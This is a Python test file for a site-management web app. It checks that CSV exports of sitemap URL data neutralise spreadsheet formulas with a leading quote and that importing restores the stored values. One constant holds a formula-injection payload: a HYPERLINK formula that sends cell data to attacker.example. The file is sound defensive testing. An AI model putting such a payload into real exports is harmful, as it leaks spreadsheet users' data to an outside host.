"""An export opened in a spreadsheet runs no formula a content system stored: a cell that would
start one is written after a single quote, and the import takes the quote off again, so an
export read back is what was stored, to the character (a value of its own starting with a quote
included)."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from tests.builders import make_site
from tests.test_csv_files import exported, formulas, import_file, snapshot, store
from tests.test_dashboard import as_role  # noqa: F401 - a fixture
from webapp.urls.csv_rows import FORMULA_STARTS, spreadsheet_cell, stored_cell

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A2,"Click for details")'
# Values as a content system may store them: formulas, and values starting with the quote an
# export puts before a formula, which must come back as they are.
STORED = [FORMULA, "+1", "-2", "@SUM(A1:A9)", "'=1+1", "''=1", "'", "''", "'plain", "-"]


@given(st.text())
@example("=1")
@example("'=1")
@example("'")
@example("\t=1")
def test_a_cell_never_opens_as_a_formula_and_reads_back_as_the_value(value):
    cell = spreadsheet_cell(value)
    assert not cell.startswith(FORMULA_STARTS)
    assert stored_cell(cell) == value


def test_a_quote_of_a_hand_made_file_before_other_text_is_the_values_own():
    assert stored_cell("'plain") == "'plain" and stored_cell("'") == "'"
    assert stored_cell("'=1+1") == "=1+1"  # as a spreadsheet reads it


def a_page_with_every_text_field(site, value: str) -> dict:
    base = site.base_url
    return {"loc": f"{base}a", "fields": {"lastmod": "2026-11-25"},
            "images": [(base, "a.jpg", value, value), (base, "b.jpg", None, value)],
            "alternates": [], "own_language": "en",
            "videos": [{"thumbnail_loc": f"{base}clip.jpg", "title": value,
                        "description": value, "content_loc": f"{base}clip.mp4",
                        "uploader": value, "uploader_info": f"{base}about",
                        "tags": [value, "bread"]}],
            "news": ("2026-11-25", value)}


@pytest.mark.parametrize("value", STORED)
def test_no_exported_cell_opens_as_a_formula_and_the_import_gives_back_each_value(
        session, tmp_path, value):
    original = make_site(session)
    store(session, original, a_page_with_every_text_field(original, value))
    session.commit()
    assert snapshot(session, original)[0][7] == ("2026-11-25", value)  # stored as sent
    text = exported(session, original)
    assert formulas(text) == []
    path = tmp_path / "export.csv"
    path.write_text(text, encoding="utf-8", newline="")
    copy = make_site(session, "Copy", original.base_url,
                     sitemap_url=f"{original.base_url}copy.xml")
    report = import_file(session, copy, path)
    assert (report.rejected, report.rejections) == (0, []), report.rejections
    assert snapshot(session, copy) == snapshot(session, original)


def test_the_dashboard_download_and_the_cli_export_write_the_quoted_cells(
        as_role, runner, session, tmp_path):  # noqa: F811
    site = make_site(session)
    store(session, site, a_page_with_every_text_field(site, FORMULA))
    session.commit()
    downloaded = as_role("viewer").get(f"/sites/{site.slug}/urls.csv").get_data(as_text=True)
    target = tmp_path / "urls.csv"
    assert runner.invoke(args=["urls", "export", site.slug, str(target)]).exit_code == 0
    for text in (downloaded, target.read_text(encoding="utf-8")):
        assert formulas(text) == []
        header, row = csv.reader(io.StringIO(text))
        quoted = {name for name, cell in zip(header, row) if cell.startswith("'=HYPERLINK(")}
        assert quoted == {"image_titles", "image_captions", "video_titles",
                          "video_descriptions", "video_uploaders", "video_tags", "news_title"}
